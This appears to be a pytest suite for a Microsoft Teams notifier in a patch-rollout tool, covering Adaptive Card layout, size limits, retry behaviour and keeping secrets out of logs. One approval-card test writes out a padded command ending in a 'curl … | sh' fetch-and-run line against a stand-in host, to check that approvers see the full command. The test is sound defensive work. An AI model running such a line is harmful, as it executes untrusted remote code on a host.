"""TeamsNotifier against a local stand-in for the Workflows webhook: envelope, cards, errors."""

from __future__ import annotations

import json
import logging
from datetime import UTC, datetime

import pytest

from activities import notify
from activities.notify import Message
from activities.notify.teams import MAX_MESSAGE_BYTES, TeamsNotifier, envelope
from tests.teams.conftest import TeamsStandIn
from workflows.models import HostProgress, HostState, Phase, RolloutNotice, RolloutSummary

ALICE, CAROL, BOB = "alice@example.com", "carol@example.com", "bob@example.com"


def notice(**extra: object) -> RolloutNotice:
    return RolloutNotice.model_validate(
        {
            "rollout_id": "rollout-9",
            "requester_email": BOB,
            "approver_emails": [ALICE, CAROL],
            "target_clusters": ["cluster-a"],
            "hosts_by_cluster": {"cluster-a": ["a1", "a2", "a3"]},
            "pilot_host_count": 1,
            "update_command": "apt-get -y upgrade",
            "service_list": ["nginx"],
            **extra,
        }
    )


def assert_envelope(post: dict) -> dict:
    assert post["type"] == "message"
    [attachment] = post["attachments"]
    assert attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
    assert attachment["contentUrl"] is None
    card = attachment["content"]
    assert card["type"] == "AdaptiveCard" and card["version"] == "1.4"
    assert len(json.dumps(post).encode()) < MAX_MESSAGE_BYTES
    return card


def texts(card: dict) -> str:
    out: list[str] = []

    def walk(node: object) -> None:
        if isinstance(node, dict):
            for key in ("text", "title", "value"):
                if isinstance(node.get(key), str):
                    out.append(node[key])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(card)
    return "\n".join(out)


async def test_approval_card_carries_no_personal_link_and_the_whole_command(
    teams: TeamsStandIn,
) -> None:
    # Spaces before `; curl …` used to push the tail of a command past a 500-character cut.
    command = "apt-get -y upgrade " + "x" * 700 + "; curl -s http://x.example/y | sh"
    assert await TeamsNotifier(teams.url).send(
        notify.approval_request(notice(update_command=command))
    )
    card = assert_envelope(teams.posts[0])
    assert card["body"][0]["text"] == "Approval needed: patch cluster-a"
    assert "rollout-9" in texts(card) and BOB in texts(card) and "a1, a2, a3" in texts(card)
    assert command in texts(card)
    # A card goes to the whole channel: a personal link there would let anyone decide as its
    # approver. Approvers are pointed to their own e-mail, Slack or the CLI instead.
    # The only buttons unfold long text (the command is 750 characters: folded, whole).
    actions = [a for b in card["body"] if b["type"] == "ActionSet" for a in b["actions"]]
    assert actions == [
        {"type": "Action.ToggleVisibility", "title": "Show / hide", "targetElements": ["command"]}
    ]
    scraped = json.dumps(card)
    assert "Action.OpenUrl" not in scraped and "/approve?" not in scraped
    assert "patchpilot approve rollout-9" in texts(card)


async def test_approval_card_shows_the_limit_that_selected_the_hosts(teams: TeamsStandIn) -> None:
    sender = TeamsNotifier(teams.url)
    selected = {"cluster-a": ["a1", "a3"]}
    assert await sender.send(
        notify.approval_request(notice(hosts_by_cluster=selected, host_pattern="!a2"))
    )
    assert await sender.send(notify.approval_request(notice()))
    limited, whole = (assert_envelope(p) for p in teams.posts)
    facts = {f["title"]: f["value"] for f in limited["body"][1]["facts"]}
    assert facts["Limit (Ansible host pattern)"] == "!a2"
    assert "**cluster-a** — 2 hosts: a1, a3" in texts(limited)
    assert "Limit (Ansible host pattern)" not in texts(whole)


async def test_host_and_failure_cards(teams: TeamsStandIn) -> None:
    sender = TeamsNotifier(teams.url)
    host = notice(hostname="a2", cluster="cluster-a")
    assert await sender.send(notify.start_notice(host))
    assert await sender.send(notify.success_notice(host))
    failed = notice(
        hostname="a3",
        cluster="cluster-a",
        step="update",
        failure_details="host a3 failed at step update: exit 100",
    )
    assert await sender.send(notify.failure_alert(failed))
    start, success, failure = (assert_envelope(p) for p in teams.posts)
    assert start["body"][0]["text"] == "▶ Patching a2 (cluster-a)"
    assert success["body"][0]["text"] == "✅ Patched a2 (cluster-a)"
    assert failure["body"][0]["text"] == "❌ FAILED: a3 at step update"
    assert failure["body"][0]["color"] == "Attention" and "exit 100" in texts(failure)


def big_summary(count: int) -> RolloutSummary:
    now = datetime.now(UTC)
    hosts = [
        HostProgress(
            name=f"host-{i:05d}",
            cluster="cluster-big",
            state=HostState.DONE,
            started_at=now,
            finished_at=now,
        )
        for i in range(count)
    ]
    hosts[count // 2] = HostProgress(
        name="host-broken",
        cluster="cluster-big",
        state=HostState.FAILED,
        step="update",
        failure_reason="E: dpkg was interrupted " + "x" * 200,
        in_maintenance=True,
    )
    return RolloutSummary(
        rollout_id="rollout-big",
        phase=Phase.FAILED,
        patched=count - 1,
        failed=1,
        skipped=0,
        duration_seconds=3600,
        message="pilot failed",
        hosts=hosts,
    )


async def test_long_host_lists_are_summarised_under_28_kb(teams: TeamsStandIn) -> None:
    hosts = {"cluster-big": [f"host-{i:05d}" for i in range(5000)]}
    sender = TeamsNotifier(teams.url)
    assert await sender.send(notify.approval_request(notice(hosts_by_cluster=hosts)))
    assert await sender.send(notify.rollout_summary(notice(summary=big_summary(5000))))
    approval, summary = (assert_envelope(p) for p in teams.posts)
    assert "5000 hosts: host-00000" in texts(approval) and "more" in texts(approval)
    listing = texts(summary)
    assert "cluster-big/host-broken: failed at update" in listing  # failures are never cut
    assert "[IN MAINTENANCE]" in listing
    assert "more hosts (patchpilot status rollout-big)" in listing
    assert all(len(json.dumps(p).encode()) < MAX_MESSAGE_BYTES for p in teams.posts)


async def test_429_is_retried_honouring_retry_after(teams: TeamsStandIn) -> None:
    teams.answers = [(429, {"Retry-After": "1"})]
    assert await TeamsNotifier(teams.url).send(notify.start_notice(notice(hostname="a1")))
    assert len(teams.times) == 2 and teams.times[1] - teams.times[0] >= 0.95
    assert len(teams.posts) == 1


async def test_a_retry_after_beyond_the_bound_gives_up_without_failing(
    teams: TeamsStandIn, caplog: pytest.LogCaptureFixture
) -> None:
    teams.answers = [(429, {"Retry-After": "3600"})]
    assert not await TeamsNotifier(teams.url).send(notify.start_notice(notice(hostname="a1")))
    assert len(teams.times) == 1 and "still answers 429" in caplog.text


async def test_5xx_is_retried(teams: TeamsStandIn) -> None:
    teams.answers = [(502, {"Retry-After": "0"}), (503, {"Retry-After": "0"})]
    assert await TeamsNotifier(teams.url).send(notify.start_notice(notice(hostname="a1")))
    assert len(teams.times) == 3 and len(teams.posts) == 1


async def test_a_4xx_is_logged_and_reported_once_and_never_raises(
    teams: TeamsStandIn, caplog: pytest.LogCaptureFixture
) -> None:
    reported: list[tuple[Message, str]] = []

    async def report(message: Message, problem: str) -> None:
        reported.append((message, problem))

    sender = TeamsNotifier(teams.url, report=report)
    teams.answers = [(404, {}), (404, {}), (404, {})]
    with caplog.at_level(logging.ERROR, logger="patchpilot.teams"):
        for host in ("a1", "a2", "a3"):
            assert not await sender.send(notify.start_notice(notice(hostname=host)))
    assert len(teams.times) == 3  # no retry of a 4xx
    errors = [
        r for r in caplog.records if "refused PatchPilot's message with HTTP 404" in r.message
    ]
    assert len(errors) == 1 and len(reported) == 1
    # The URL's secret stays out of every log line but the stand-in server's own access log.
    ours = "\n".join(r.getMessage() for r in caplog.records if not r.name.startswith("aiohttp"))
    assert "sig=" not in ours and "s3cr3t" not in ours


async def test_an_unreachable_webhook_answers_false() -> None:
    sender = TeamsNotifier("http://127.0.0.1:9/hook", max_attempts=2, max_retry_wait=0.1)
    assert not await sender.send(notify.start_notice(notice(hostname="a1")))


def test_envelope_shape() -> None:
    assert envelope({"type": "AdaptiveCard"}) == {
        "type": "message",
        "attachments": [
            {
                "contentType": "application/vnd.microsoft.card.adaptive",
                "contentUrl": None,
                "content": {"type": "AdaptiveCard"},
            }
        ],
    }
